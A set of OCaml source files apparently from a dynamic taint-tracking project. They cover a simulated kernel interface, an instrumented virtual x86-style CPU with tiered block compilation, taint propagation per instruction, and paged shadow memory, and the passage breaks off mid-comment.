    (see {!link_closure}), skipping the per-spawn link entirely; it must
    be what [link_closure] over the world's installed programs returns
    for [path]. *)
val spawn :
  ?env:string list -> ?images:Binary.Image.t list -> t -> path:string ->
  argv:string list -> (Process.t, string) result

(** [link_closure available path] resolves [path]'s needed-closure out
    of [available] and links every member, exactly as spawning [path]
    in a world whose programs are [available] would.  Linked images are
    immutable and linking is deterministic, so the result can be cached
    and passed to {!spawn} by engines that run many sessions over the
    same program set. *)
val link_closure :
  Binary.Image.t list -> string -> (Binary.Image.t list, string) result

type report = {
  rep_ticks : int;
  rep_console : string;
  rep_final : (int * string * Process.run_state) list;
      (** (pid, executable path, final state) *)
  rep_clones : int;
  rep_max_live : int;
}

(** [run k ~max_ticks] drives the scheduler until every process
    terminates, the tick budget is exhausted, or the world deadlocks
    (remaining blocked processes are then reaped as killed). *)
val run : t -> max_ticks:int -> report

val pp_report : Format.formatter -> report -> unit
