(** The virtual CPU: a process's architectural state plus instrumentation
    hooks.

    The machine plays the role PIN plays in the paper: it executes the
    guest instruction stream and exposes callbacks at instruction and
    basic-block granularity (Fig. 5 shows the analysis calls Pin inserts;
    here they are the [pre_insn] and [on_bb] hooks).  System calls are not
    executed by the machine — [step] returns [Syscall] and the simulated
    kernel takes over, exactly as [int $0x80] traps to the OS.

    Semantics notes (documented deviations from real x86, irrelevant to
    the policy):
    - every instruction occupies one address unit;
    - [movb] to a register zero-extends into the full register;
    - memory-to-memory [mov] is permitted;
    - [Div] traps on a zero divisor (fault, not SIGFPE). *)

type fault =
  | Bad_fetch of int  (** execution left all text segments *)
  | Bad_access of int  (** memory access outside the address space *)
  | Div_by_zero

type status = Running | Halted | Faulted of fault

(** Raised by memory accessors on out-of-range addresses; [step] catches
    it internally, but kernel-side accesses (string decoding) must handle
    it. *)
exception Fault_exn of fault

type t

(** A mapped text segment: the executable or one shared object. *)
type segment = {
  seg_base : int;
  seg_insns : Isa.Insn.t array;
  seg_image : string;  (** image path, e.g. ["/lib/libc.so"] *)
  seg_kind : Binary.Image.kind;
  seg_lens : int array;
      (** straight-line body lengths, from {!Binary.Image.t.blocks} *)
  seg_ops : (t -> unit) option array;
      (** compiled-instruction slots, lazily filled by {!step_block};
          shared by every machine mapping the same image *)
}

(** Instrumentation callbacks.  All default to no-ops ([on_block]
    defaults to refusing every block, i.e. pure interpretation). *)
type hooks = {
  mutable pre_insn : t -> int -> Isa.Insn.t -> unit;
      (** called with the address and instruction {e before} execution *)
  mutable on_bb : t -> int -> unit;
      (** called when control enters a basic block (leader address) *)
  mutable on_block : t -> segment -> int -> int -> bool;
      (** [on_block m seg addr len]: offered a straight-line body of
          [len] instructions at block leader [addr] before it runs.
          Return [true] to execute it as compiled closures with no
          per-instruction [pre_insn] calls — the hook owns whatever
          per-block bookkeeping (taint summary application) replaces
          them — or [false] to interpret as usual. *)
}

val no_hooks : unit -> hooks

(** Size of the flat per-process address space (1 MiB). *)
val mem_size : int

(** A recycling pool for address-space buffers.  [create]/[clone] draw
    from the pool when one is supplied (zeroing or overwriting the
    buffer, so behaviour is indistinguishable from fresh allocation);
    {!recycle_mem} returns a dead machine's buffer.  For callers that
    build many sequential worlds — allocating the 1 MiB space dominates
    small-machine setup. *)
type mem_pool

(** [mem_pool ?cap ()] is an empty pool retaining at most [cap]
    (default 16) free buffers. *)
val mem_pool : ?cap:int -> unit -> mem_pool

val create : ?hooks:hooks -> ?pool:mem_pool -> unit -> t

val hooks : t -> hooks

(** [clone ?pool m] duplicates the full architectural state ([fork]);
    text segments and hooks are shared. *)
val clone : ?pool:mem_pool -> t -> t

(** [recycle_mem pool m] returns [m]'s memory buffer to [pool].  [m]
    must never be used again: the buffer will be handed to a future
    machine.  Recycling the same machine twice is a no-op. *)
val recycle_mem : mem_pool -> t -> unit

val status : t -> status

val set_status : t -> status -> unit

val eip : t -> int

val set_eip : t -> int -> unit

val get_reg : t -> Isa.Reg.t -> int

val set_reg : t -> Isa.Reg.t -> int -> unit

(** {2 Memory} *)

val read_byte : t -> int -> int

val write_byte : t -> int -> int -> unit

val read_word : t -> int -> int

val write_word : t -> int -> int -> unit

(** [read_bytes m addr len] copies [len] bytes out of guest memory. *)
val read_bytes : t -> int -> int -> string

val write_string : t -> int -> string -> unit

(** [read_cstring m addr] reads a NUL-terminated string (bounded by the
    address-space end). *)
val read_cstring : t -> int -> string

(** {2 Text segments} *)

(** [map_image m img] maps a linked image: registers its text segment and
    copies its data sections into memory. *)
val map_image : t -> Binary.Image.t -> unit

val segments : t -> segment list

val segment_at : t -> int -> segment option

val fetch : t -> int -> Isa.Insn.t option

(** {2 Operand access}

    Exposed so the taint-tracking monitor can compute exactly the
    locations the CPU is about to touch. *)

(** [eff_addr m ref] is the effective address of a memory reference under
    the current register values. *)
val eff_addr : t -> Isa.Operand.mem_ref -> int

(** [read_operand m size op] evaluates an operand. *)
val read_operand : t -> Isa.Insn.size -> Isa.Operand.t -> int

(** {2 Execution} *)

type outcome =
  | Continue  (** one instruction retired *)
  | Syscall of int  (** [Int n] executed; eip already advanced *)
  | Stopped of status  (** halted or faulted *)

(** [step m] executes one instruction, firing hooks. *)
val step : t -> outcome

(** [step_block m ~fuel] is the tiered dispatcher: at a basic-block
    start whose straight-line body has at most [fuel] instructions, the
    body is offered to the [on_block] hook and — if accepted — runs as
    compiled closures (one fused unit, no per-instruction hooks); in
    every other case exactly one instruction is interpreted via
    {!step}.  Returns the outcome and the number of instructions
    retired, for quantum accounting.  Equivalent to [fuel] iterated
    {!step}s up to the accepted per-block instrumentation. *)
val step_block : t -> fuel:int -> outcome * int

val pp_fault : Format.formatter -> fault -> unit

val pp_status : Format.formatter -> status -> unit
