type fault =
  | Bad_fetch of int
  | Bad_access of int
  | Div_by_zero

type status = Running | Halted | Faulted of fault

type t = {
  regs : int array;
  mutable eip : int;
  mutable zf : bool;
  mutable sf : bool;
  mutable lt : bool;
  mem : Bytes.t;
  mutable segs : segment list;
  mutable cur_seg : segment;
      (* one-entry fetch cache: consecutive instructions execute from the
         same segment, so [step] skips the segment-list scan *)
  mutable status : status;
  mutable at_bb_start : bool;
  h : hooks;
}

and segment = {
  seg_base : int;
  seg_insns : Isa.Insn.t array;
  seg_image : string;
  seg_kind : Binary.Image.kind;
  seg_lens : int array;
  seg_ops : (t -> unit) option array;
      (* compiled-insn slots, lazily filled by [step_block]; shared with
         every machine mapping the same image (see [ops_for]), so fleet
         workers decode each block once *)
}

and hooks = {
  mutable pre_insn : t -> int -> Isa.Insn.t -> unit;
  mutable on_bb : t -> int -> unit;
  mutable on_block : t -> segment -> int -> int -> bool;
}

(* Sentinel "no segment": an empty interval, so the fetch fast path
   below never matches it. *)
let no_seg =
  { seg_base = 0; seg_insns = [||]; seg_image = "";
    seg_kind = Binary.Image.Executable; seg_lens = [||]; seg_ops = [||] }

let no_hooks () =
  { pre_insn = (fun _ _ _ -> ());
    on_bb = (fun _ _ -> ());
    on_block = (fun _ _ _ _ -> false) }

let mem_size = 0x100000

exception Fault_exn of fault

(* Recycling pool for the 1 MiB address-space buffers.  Allocating (and
   faulting in) a megabyte per spawn dominates small-session setup, so
   a caller that runs many sequential worlds hands the same pool to
   every kernel and returns the buffers when a world is torn down.  A
   pooled buffer is zeroed (create) or fully overwritten (clone) before
   reuse, so guest-visible behaviour is identical to fresh allocation. *)
type mem_pool = { mutable mp_free : Bytes.t list; mp_cap : int }

let mem_pool ?(cap = 16) () = { mp_free = []; mp_cap = cap }

let pool_take p =
  match p.mp_free with
  | b :: rest ->
    p.mp_free <- rest;
    Some b
  | [] -> None

let fresh_mem = function
  | None -> Bytes.make mem_size '\000'
  | Some p ->
    (match pool_take p with
     | Some b ->
       Bytes.fill b 0 mem_size '\000';
       b
     | None -> Bytes.make mem_size '\000')

let copied_mem pool src =
  match pool with
  | None -> Bytes.copy src
  | Some p ->
    (match pool_take p with
     | Some b ->
       Bytes.blit src 0 b 0 mem_size;
       b
     | None -> Bytes.copy src)

let recycle_mem p m =
  (* membership check defends against double-recycling a machine, which
     would hand one buffer to two future machines *)
  if List.length p.mp_free < p.mp_cap && not (List.memq m.mem p.mp_free) then
    p.mp_free <- m.mem :: p.mp_free

let create ?hooks ?pool () =
  let h = match hooks with Some h -> h | None -> no_hooks () in
  { regs = Array.make Isa.Reg.count 0; eip = 0; zf = false; sf = false;
    lt = false; mem = fresh_mem pool; segs = []; cur_seg = no_seg;
    status = Running; at_bb_start = true; h }

let hooks m = m.h

let clone ?pool m =
  { regs = Array.copy m.regs; eip = m.eip; zf = m.zf; sf = m.sf; lt = m.lt;
    mem = copied_mem pool m.mem; segs = m.segs; cur_seg = m.cur_seg;
    status = m.status; at_bb_start = m.at_bb_start; h = m.h }

let status m = m.status
let set_status m s = m.status <- s
let eip m = m.eip

let set_eip m a =
  m.eip <- a;
  m.at_bb_start <- true

let get_reg m r = m.regs.(Isa.Reg.index r)
let set_reg m r v = m.regs.(Isa.Reg.index r) <- v land 0xFFFFFFFF

let check_addr addr =
  if addr < 0 || addr >= mem_size then raise (Fault_exn (Bad_access addr))

let read_byte m addr =
  check_addr addr;
  Char.code (Bytes.get m.mem addr)

let write_byte m addr v =
  check_addr addr;
  Bytes.set m.mem addr (Char.chr (v land 0xFF))

let read_word m addr =
  check_addr addr;
  check_addr (addr + 3);
  Int32.to_int (Bytes.get_int32_le m.mem addr) land 0xFFFFFFFF

let write_word m addr v =
  check_addr addr;
  check_addr (addr + 3);
  Bytes.set_int32_le m.mem addr (Int32.of_int (v land 0xFFFFFFFF))

let read_bytes m addr len =
  check_addr addr;
  if len > 0 then check_addr (addr + len - 1);
  Bytes.sub_string m.mem addr len

let write_string m addr s =
  check_addr addr;
  if String.length s > 0 then check_addr (addr + String.length s - 1);
  Bytes.blit_string s 0 m.mem addr (String.length s)

let read_cstring m addr =
  check_addr addr;
  let rec find i =
    if i >= mem_size then i
    else if Bytes.get m.mem i = '\000' then i
    else find (i + 1)
  in
  let stop = find addr in
  Bytes.sub_string m.mem addr (stop - addr)

(* Per-image compiled-op tables, keyed by physical equality on the text
   array.  Linked images are interned per engine and shared by every
   forked fleet worker, so all machines mapping one image write into
   (and benefit from) the same slot array.  Slot stores race benignly
   across domains: a stale [None] read just recompiles the identical
   closure.  The registry is bounded; evicting an entry only forfeits
   sharing for images still mapped somewhere. *)
let ops_registry : (Isa.Insn.t array * (t -> unit) option array) list ref =
  ref []

let ops_mu = Mutex.create ()
let ops_registry_cap = 512

let ops_for text =
  Mutex.lock ops_mu;
  let ops =
    match List.find_opt (fun (t', _) -> t' == text) !ops_registry with
    | Some (_, ops) -> ops
    | None ->
      let ops = Array.make (Array.length text) None in
      let reg = (text, ops) :: !ops_registry in
      ops_registry :=
        (if List.length reg > ops_registry_cap then
           List.filteri (fun i _ -> i < ops_registry_cap / 2) reg
         else reg);
      ops
  in
  Mutex.unlock ops_mu;
  ops

let map_image m (img : Binary.Image.t) =
  m.segs <-
    { seg_base = img.base; seg_insns = img.text; seg_image = img.path;
      seg_kind = img.kind; seg_lens = img.blocks; seg_ops = ops_for img.text }
    :: m.segs;
  (* the new segment may shadow the cached one *)
  m.cur_seg <- no_seg;
  List.iter
    (fun (s : Binary.Section.t) ->
      write_string m s.addr (Bytes.to_string s.bytes))
    img.sections

let segments m = m.segs

let segment_at m addr =
  List.find_opt
    (fun s -> addr >= s.seg_base && addr < s.seg_base + Array.length s.seg_insns)
    m.segs

(* Observability: the per-instruction counters are single unboxed field
   writes (see lib/obs), cheap enough for the step loop. *)
let c_instructions = Obs.Counter.make "vm.instructions"
let c_blocks = Obs.Counter.make "vm.blocks"
let c_fetch_hits = Obs.Counter.make "vm.fetch_cache.hits"
let c_fetch_misses = Obs.Counter.make "vm.fetch_cache.misses"

(* Tiering counters.  [decoded] counts compiled-insn slots filled here;
   [promoted]/[deopt] are incremented by the tier policy in the monitor
   (Obs counters are interned by name, so both layers share the cell). *)
let c_decoded = Obs.Counter.make "vm.blocks.decoded"
let _c_promoted = Obs.Counter.make "vm.blocks.promoted"
let _c_deopt = Obs.Counter.make "vm.blocks.deopt"

(* Allocation-free fetch: hit the cached segment or rescan; [no_seg]
   means no segment maps [addr]. *)
let seg_for m addr =
  let s = m.cur_seg in
  if addr - s.seg_base >= 0 && addr - s.seg_base < Array.length s.seg_insns
  then begin
    Obs.Counter.incr c_fetch_hits;
    s
  end
  else begin
    Obs.Counter.incr c_fetch_misses;
    match segment_at m addr with
    | Some s ->
      m.cur_seg <- s;
      s
    | None -> no_seg
  end

let fetch m addr =
  let s = seg_for m addr in
  if s == no_seg then None else Some s.seg_insns.(addr - s.seg_base)

let eff_addr m (r : Isa.Operand.mem_ref) =
  let v = function None -> 0 | Some reg -> get_reg m reg in
  (r.disp + v r.base + (v r.index * r.scale)) land 0xFFFFFFFF

let read_operand m size op =
  let mask v = match size with
    | Isa.Insn.B -> v land 0xFF
    | Isa.Insn.W -> v land 0xFFFFFFFF
  in
  match op with
  | Isa.Operand.Imm n -> mask n
  | Isa.Operand.Reg r -> mask (get_reg m r)
  | Isa.Operand.Mem ref ->
    let addr = eff_addr m ref in
    (match size with
     | Isa.Insn.B -> read_byte m addr
     | Isa.Insn.W -> read_word m addr)

let write_operand m size op v =
  match op with
  | Isa.Operand.Imm _ -> failwith "Machine: immediate destination"
  | Isa.Operand.Reg r ->
    (match size with
     | Isa.Insn.B -> set_reg m r (v land 0xFF)
     | Isa.Insn.W -> set_reg m r v)
  | Isa.Operand.Mem ref ->
    let addr = eff_addr m ref in
    (match size with
     | Isa.Insn.B -> write_byte m addr v
     | Isa.Insn.W -> write_word m addr v)

let sign32 v = if v land 0x80000000 <> 0 then v - 0x1_0000_0000 else v

let set_flags m r =
  let r = r land 0xFFFFFFFF in
  m.zf <- r = 0;
  m.sf <- r land 0x80000000 <> 0;
  m.lt <- m.sf

let cond_holds m = function
  | Isa.Insn.Z -> m.zf
  | Isa.Insn.NZ -> not m.zf
  | Isa.Insn.L -> m.lt
  | Isa.Insn.GE -> not m.lt
  | Isa.Insn.LE -> m.lt || m.zf
  | Isa.Insn.G -> not (m.lt || m.zf)
  | Isa.Insn.S -> m.sf
  | Isa.Insn.NS -> not m.sf

type outcome =
  | Continue
  | Syscall of int
  | Stopped of status

let target_value m op = read_operand m Isa.Insn.W op

let push m v =
  let sp = get_reg m ESP - 4 in
  set_reg m ESP sp;
  write_word m sp v

let pop m =
  let sp = get_reg m ESP in
  let v = read_word m sp in
  set_reg m ESP (sp + 4);
  v

(* cpuid writes a fixed processor identity; the interesting part is that
   the monitor tags the destination registers HARDWARE. *)
let cpuid_values = (0x756E_6547, 0x4963_6E74, 0x6C65_746E, 0x0000_0F4A)

(* Saturated top-level helper, so [exec] allocates no closures on the
   per-instruction path; the operator arguments below are static
   constant closures. *)
let alu m f dst src =
  let a = read_operand m Isa.Insn.W dst and b = read_operand m Isa.Insn.W src in
  let r = f a b land 0xFFFFFFFF in
  set_flags m r;
  write_operand m Isa.Insn.W dst r;
  m.eip <- m.eip + 1

let sdiv a b = sign32 a / sign32 b
let shl a b = a lsl (b land 31)
let shr a b = a lsr (b land 31)
let incr1 a _ = a + 1
let decr1 a _ = a - 1

let exec m insn =
  let open Isa.Insn in
  let next () = m.eip <- m.eip + 1 in
  match insn with
  | Mov (sz, dst, src) ->
    write_operand m sz dst (read_operand m sz src);
    next ();
    Continue
  | Lea (r, ref) ->
    set_reg m r (eff_addr m ref);
    next ();
    Continue
  | Add (d, s) -> alu m ( + ) d s; Continue
  | Sub (d, s) -> alu m ( - ) d s; Continue
  | And (d, s) -> alu m ( land ) d s; Continue
  | Or (d, s) -> alu m ( lor ) d s; Continue
  | Xor (d, s) -> alu m ( lxor ) d s; Continue
  | Mul (d, s) -> alu m ( * ) d s; Continue
  | Div (d, s) ->
    let b = read_operand m W s in
    if b = 0 then raise (Fault_exn Div_by_zero);
    alu m sdiv d s;
    Continue
  | Shl (d, s) -> alu m shl d s; Continue
  | Shr (d, s) -> alu m shr d s; Continue
  | Inc d -> alu m incr1 d (Imm 0); Continue
  | Dec d -> alu m decr1 d (Imm 0); Continue
  | Cmp (sz, a, b) ->
    let x = read_operand m sz a and y = read_operand m sz b in
    let sx, sy =
      match sz with
      | B -> x, y
      | W -> sign32 x, sign32 y
    in
    m.zf <- sx = sy;
    m.lt <- sx < sy;
    m.sf <- m.lt;
    next ();
    Continue
  | Test (a, b) ->
    set_flags m (read_operand m W a land read_operand m W b);
    next ();
    Continue
  | Push a ->
    push m (read_operand m W a);
    next ();
    Continue
  | Pop dst ->
    let v = pop m in
    write_operand m W dst v;
    next ();
    Continue
  | Jmp t ->
    m.eip <- target_value m t;
    Continue
  | Jcc (c, t) ->
    if cond_holds m c then m.eip <- target_value m t else next ();
    Continue
  | Call t ->
    let dest = target_value m t in
    push m (m.eip + 1);
    m.eip <- dest;
    Continue
  | Ret ->
    m.eip <- pop m;
    Continue
  | Int n ->
    next ();
    Syscall n
  | Cpuid ->
    let a, b, c, d = cpuid_values in
    set_reg m EAX a;
    set_reg m EBX b;
    set_reg m ECX c;
    set_reg m EDX d;
    next ();
    Continue
  | Nop ->
    next ();
    Continue
  | Hlt ->
    m.status <- Halted;
    Stopped Halted

(* One interpreted instruction from an already-resolved segment; the
   single [seg_for] call stays with the caller so the fetch-cache
   counters count each fetch exactly once on every path. *)
let step_in m seg =
  if seg == no_seg then begin
    m.status <- Faulted (Bad_fetch m.eip);
    Stopped m.status
  end
  else begin
    let insn = seg.seg_insns.(m.eip - seg.seg_base) in
    try
      Obs.Counter.incr c_instructions;
      if m.at_bb_start then begin
        Obs.Counter.incr c_blocks;
        m.h.on_bb m m.eip
      end;
      m.h.pre_insn m m.eip insn;
      m.at_bb_start <- Isa.Insn.writes_control_flow insn;
      exec m insn
    with Fault_exn f ->
      m.status <- Faulted f;
      Stopped m.status
  end

let step m =
  match m.status with
  | (Halted | Faulted _) as s -> Stopped s
  | Running -> step_in m (seg_for m m.eip)

(* Compile one body-safe instruction to a closure replicating [exec]'s
   semantics exactly (flags, masking, faults, eip advance).  Only
   called from [step_block] on instructions [Isa.Block.body_safe]
   admits; terminators and [Div] always stay with the interpreter. *)
let compile_insn insn =
  let open Isa.Insn in
  match insn with
  | Mov (sz, dst, src) ->
    fun m ->
      write_operand m sz dst (read_operand m sz src);
      m.eip <- m.eip + 1
  | Lea (r, ref) ->
    fun m ->
      set_reg m r (eff_addr m ref);
      m.eip <- m.eip + 1
  | Add (d, s) -> fun m -> alu m ( + ) d s
  | Sub (d, s) -> fun m -> alu m ( - ) d s
  | And (d, s) -> fun m -> alu m ( land ) d s
  | Or (d, s) -> fun m -> alu m ( lor ) d s
  | Xor (d, s) -> fun m -> alu m ( lxor ) d s
  | Mul (d, s) -> fun m -> alu m ( * ) d s
  | Shl (d, s) -> fun m -> alu m shl d s
  | Shr (d, s) -> fun m -> alu m shr d s
  | Inc d -> fun m -> alu m incr1 d (Imm 0)
  | Dec d -> fun m -> alu m decr1 d (Imm 0)
  | Cmp (sz, a, b) ->
    fun m ->
      let x = read_operand m sz a and y = read_operand m sz b in
      let sx, sy =
        match sz with
        | B -> x, y
        | W -> sign32 x, sign32 y
      in
      m.zf <- sx = sy;
      m.lt <- sx < sy;
      m.sf <- m.lt;
      m.eip <- m.eip + 1
  | Test (a, b) ->
    fun m ->
      set_flags m (read_operand m W a land read_operand m W b);
      m.eip <- m.eip + 1
  | Push a ->
    fun m ->
      push m (read_operand m W a);
      m.eip <- m.eip + 1
  | Pop dst ->
    fun m ->
      let v = pop m in
      write_operand m W dst v;
      m.eip <- m.eip + 1
  | Cpuid ->
    fun m ->
      let a, b, c, d = cpuid_values in
      set_reg m EAX a;
      set_reg m EBX b;
      set_reg m ECX c;
      set_reg m EDX d;
      m.eip <- m.eip + 1
  | Nop -> fun m -> m.eip <- m.eip + 1
  | Div _ | Jmp _ | Jcc _ | Call _ | Ret | Int _ | Hlt ->
    invalid_arg "Machine.compile_insn: not body-safe"

(* Tiered dispatch: at a basic-block start whose straight-line body fits
   the remaining [fuel], offer the block to the [on_block] hook.  If it
   accepts (the tier policy has promoted the block and applied — or
   deliberately skipped — its taint summary), the body runs as compiled
   closures with no per-instruction hook calls; the terminator and every
   other case take the interpreted [step] path unchanged.  Returns the
   outcome plus the number of instructions retired (for quantum
   accounting). *)
let step_block m ~fuel =
  match m.status with
  | (Halted | Faulted _) as s -> (Stopped s, 0)
  | Running ->
    let seg = seg_for m m.eip in
    if not m.at_bb_start || seg == no_seg then (step_in m seg, 1)
    else begin
      let off = m.eip - seg.seg_base in
      let len = seg.seg_lens.(off) in
      if len = 0 || len > fuel || not (m.h.on_block m seg m.eip len) then
        (step_in m seg, 1)
      else begin
        Obs.Counter.incr c_blocks;
        m.h.on_bb m m.eip;
        m.at_bb_start <- false;
        let ops = seg.seg_ops in
        (* per-insn accounting is hoisted to one [add] per kind (the
           first fetch was counted by [seg_for]; the rest of the body
           would all hit the one-entry cache); a mid-block fault rolls
           the difference back so the counts match interpretation
           exactly *)
        Obs.Counter.add c_instructions len;
        Obs.Counter.add c_fetch_hits (len - 1);
        let rec run i =
          if i >= len then (Continue, len)
          else begin
            let op =
              match ops.(off + i) with
              | Some f -> f
              | None ->
                Obs.Counter.incr c_decoded;
                let f = compile_insn seg.seg_insns.(off + i) in
                ops.(off + i) <- Some f;
                f
            in
            match op m with
            | () -> run (i + 1)
            | exception Fault_exn f ->
              m.status <- Faulted f;
              Obs.Counter.add c_instructions (i + 1 - len);
              Obs.Counter.add c_fetch_hits (i - (len - 1));
              (Stopped m.status, i + 1)
          end
        in
        run 0
      end
    end

let pp_fault ppf = function
  | Bad_fetch a -> Fmt.pf ppf "bad fetch at 0x%x" a
  | Bad_access a -> Fmt.pf ppf "bad memory access at 0x%x" a
  | Div_by_zero -> Fmt.string ppf "division by zero"

let pp_status ppf = function
  | Running -> Fmt.string ppf "running"
  | Halted -> Fmt.string ppf "halted"
  | Faulted f -> Fmt.pf ppf "faulted: %a" pp_fault f
