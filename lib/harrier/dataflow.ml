(* This runs on every instruction, so the operand helpers are called
   saturated — no per-step closure allocation — and unions rely on the
   interned tag-set fast paths. *)

let size_bytes = function Isa.Insn.B -> 1 | Isa.Insn.W -> 4

let operand_tag shadow m imm_tag size (op : Isa.Operand.t) =
  match op with
  | Imm _ -> imm_tag
  | Reg r -> Shadow.reg shadow r
  | Mem ref ->
    Shadow.range shadow (Vm.Machine.eff_addr m ref) (size_bytes size)

let write_tag shadow m size (op : Isa.Operand.t) tag =
  match op with
  | Imm _ -> ()
  | Reg r -> Shadow.set_reg shadow r tag
  | Mem ref ->
    Shadow.set_range shadow (Vm.Machine.eff_addr m ref) (size_bytes size) tag

let step shadow m ~imm_tag (insn : Isa.Insn.t) =
  let sp = Shadow.space shadow in
  match insn with
  | Mov (sz, dst, s) ->
    write_tag shadow m sz dst (operand_tag shadow m imm_tag sz s)
  | Lea (r, ref) ->
    let reg_tag = function
      | None -> Taint.Tagset.empty
      | Some reg -> Shadow.reg shadow reg
    in
    Shadow.set_reg shadow r
      (Taint.Tagset.union sp imm_tag
         (Taint.Tagset.union sp (reg_tag ref.base) (reg_tag ref.index)))
  | Add (d, s) | Sub (d, s) | And (d, s) | Or (d, s) | Xor (d, s)
  | Mul (d, s) | Div (d, s) | Shl (d, s) | Shr (d, s) ->
    let tag =
      Taint.Tagset.union sp
        (operand_tag shadow m imm_tag Isa.Insn.W d)
        (operand_tag shadow m imm_tag Isa.Insn.W s)
    in
    write_tag shadow m Isa.Insn.W d tag
  | Inc d | Dec d ->
    write_tag shadow m Isa.Insn.W d
      (Taint.Tagset.union sp (operand_tag shadow m imm_tag Isa.Insn.W d)
         imm_tag)
  | Cmp _ | Test _ -> ()
  | Push a ->
    let sp = Vm.Machine.get_reg m ESP - 4 in
    Shadow.set_range shadow sp 4 (operand_tag shadow m imm_tag Isa.Insn.W a)
  | Pop dst ->
    let sp = Vm.Machine.get_reg m ESP in
    write_tag shadow m Isa.Insn.W dst (Shadow.range shadow sp 4)
  | Call _ ->
    (* the CPU pushes an untainted return address *)
    let sp = Vm.Machine.get_reg m ESP - 4 in
    Shadow.set_range shadow sp 4 Taint.Tagset.empty
  | Cpuid ->
    let hw = Taint.Tagset.singleton sp Taint.Source.Hardware in
    List.iter
      (fun r -> Shadow.set_reg shadow r hw)
      [ Isa.Reg.EAX; Isa.Reg.EBX; Isa.Reg.ECX; Isa.Reg.EDX ]
  | Jmp _ | Jcc _ | Ret | Int _ | Nop | Hlt -> ()
