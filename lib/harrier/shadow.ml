(* Paged shadow memory.

   Memory tags live in fixed-size pages of tag-set arrays, allocated on
   the first non-empty store into the page and reclaimed when their last
   tagged byte is cleared, so untainted regions cost nothing to read and
   [range]/[set_range] touch whole page runs instead of doing one hash
   lookup per byte.  A one-entry page cache short-circuits the table
   lookup for the consecutive accesses the data-flow hooks produce.
   Tag sets are hash-consed ([Taint.Tagset.equal] is pointer equality),
   which the range scan exploits: a run of bytes carrying the same tag —
   the common case after a [set_range] — costs one pointer comparison
   per byte and no unions. *)

let page_bits = 12
let page_size = 1 lsl page_bits
let page_mask = page_size - 1

type page = {
  data : Taint.Tagset.t array;
  mutable live : int;  (* number of non-empty slots; > 0 while mapped *)
}

(* Distinguished "unmapped" page so lookups stay option-free; also the
   cached result for a miss. *)
let no_page = { data = [||]; live = 0 }

type t = {
  space : Taint.Space.t;  (* hash-consing arena for every union below *)
  regs : Taint.Tagset.t array;
  pages : (int, page) Hashtbl.t;  (* page index -> page *)
  budget : int;  (* max live pages before saturation (max_int = none) *)
  mutable overflow : Taint.Tagset.t;
      (* union of every tag whose store was refused by the budget; once
         non-empty the shadow is degraded and every read is widened by
         this set — conservative over-tainting, taint is never lost *)
  mutable tagged : int;  (* total non-empty bytes across pages *)
  mutable last_idx : int;  (* one-entry lookup cache *)
  mutable last_page : page;
}

let c_loads = Obs.Counter.make "harrier.shadow.loads"
let c_stores = Obs.Counter.make "harrier.shadow.stores"

(* A gauge: +1 on page allocation, -1 on reclaim, so the counter's
   current value is the number of live pages. *)
let c_pages_live = Obs.Counter.make "harrier.shadow.pages_live"

(* One increment per shadow that crosses into saturation. *)
let c_degraded = Obs.Counter.make "harrier.degraded"
let c_refused = Obs.Counter.make "harrier.shadow.stores_refused"

let create ?page_budget ?space () =
  let space =
    match space with Some sp -> sp | None -> Taint.Space.create ()
  in
  { space; regs = Array.make Isa.Reg.count Taint.Tagset.empty;
    pages = Hashtbl.create 64;
    budget = (match page_budget with Some b -> max 0 b | None -> max_int);
    overflow = Taint.Tagset.empty; tagged = 0; last_idx = min_int;
    last_page = no_page }

let space s = s.space

let degraded s = not (Taint.Tagset.is_empty s.overflow)

let live_pages s = Hashtbl.length s.pages

(* Refuse a store the page budget cannot accommodate: widen [overflow]
   instead, so subsequent reads still see the tag (and possibly more). *)
let refuse s tag =
  Obs.Counter.incr c_refused;
  if not (degraded s) then Obs.Counter.incr c_degraded;
  s.overflow <- Taint.Tagset.union s.space s.overflow tag

let clone s =
  let pages = Hashtbl.create (Hashtbl.length s.pages) in
  Obs.Counter.add c_pages_live (Hashtbl.length s.pages);
  Hashtbl.iter
    (fun idx p ->
      Hashtbl.add pages idx { data = Array.copy p.data; live = p.live })
    s.pages;
  { space = s.space; regs = Array.copy s.regs; pages; budget = s.budget;
    overflow = s.overflow; tagged = s.tagged; last_idx = min_int;
    last_page = no_page }

let[@inline] reg s r = s.regs.(Isa.Reg.index r)

let[@inline] set_reg s r tag = s.regs.(Isa.Reg.index r) <- tag

(* [get_page] caches hits and misses: the hooks hammer the same page
   (stack or copy buffer) with consecutive accesses. *)
let get_page s idx =
  if idx = s.last_idx then s.last_page
  else begin
    let p =
      match Hashtbl.find_opt s.pages idx with
      | Some p -> p
      | None -> no_page
    in
    s.last_idx <- idx;
    s.last_page <- p;
    p
  end

let add_page s idx p =
  Obs.Counter.incr c_pages_live;
  Hashtbl.add s.pages idx p;
  s.last_idx <- idx;
  s.last_page <- p

let remove_page s idx =
  Obs.Counter.add c_pages_live (-1);
  Hashtbl.remove s.pages idx;
  if s.last_idx = idx then s.last_page <- no_page

(* Widen a read by the overflow set when the shadow is degraded; free
   (one pointer compare) otherwise. *)
let[@inline] widen s t =
  if Taint.Tagset.is_empty s.overflow then t
  else Taint.Tagset.union s.space t s.overflow

let byte s addr =
  Obs.Counter.incr c_loads;
  let p = get_page s (addr asr page_bits) in
  widen s
    (if p == no_page then Taint.Tagset.empty
     else p.data.(addr land page_mask))

let fresh_page () = { data = Array.make page_size Taint.Tagset.empty; live = 0 }

let set_byte s addr tag =
  Obs.Counter.incr c_stores;
  let idx = addr asr page_bits in
  let p = get_page s idx in
  if p != no_page && p.data.(addr land page_mask) == tag then
    (* idempotent store: skip the write (and its barrier) entirely *)
    ()
  else if p == no_page then begin
    if not (Taint.Tagset.is_empty tag) then begin
      if Hashtbl.length s.pages >= s.budget then refuse s tag
      else begin
        let p = fresh_page () in
        p.data.(addr land page_mask) <- tag;
        p.live <- 1;
        s.tagged <- s.tagged + 1;
        add_page s idx p
      end
    end
  end
  else begin
    let off = addr land page_mask in
    let was_empty = Taint.Tagset.is_empty p.data.(off) in
    let tag_empty = Taint.Tagset.is_empty tag in
    p.data.(off) <- tag;
    match was_empty, tag_empty with
    | true, false ->
      p.live <- p.live + 1;
      s.tagged <- s.tagged + 1
    | false, true ->
      p.live <- p.live - 1;
      s.tagged <- s.tagged - 1;
      if p.live = 0 then remove_page s idx
    | _ -> ()
  end

(* The empty tag is a unique interned node, so emptiness in the hot
   loops below is a pointer comparison against this binding rather than
   a cross-module call. *)
let empty_tag = Taint.Tagset.empty

(* Union the bytes [off, off+n) of [p] into [acc]; runs of the tag
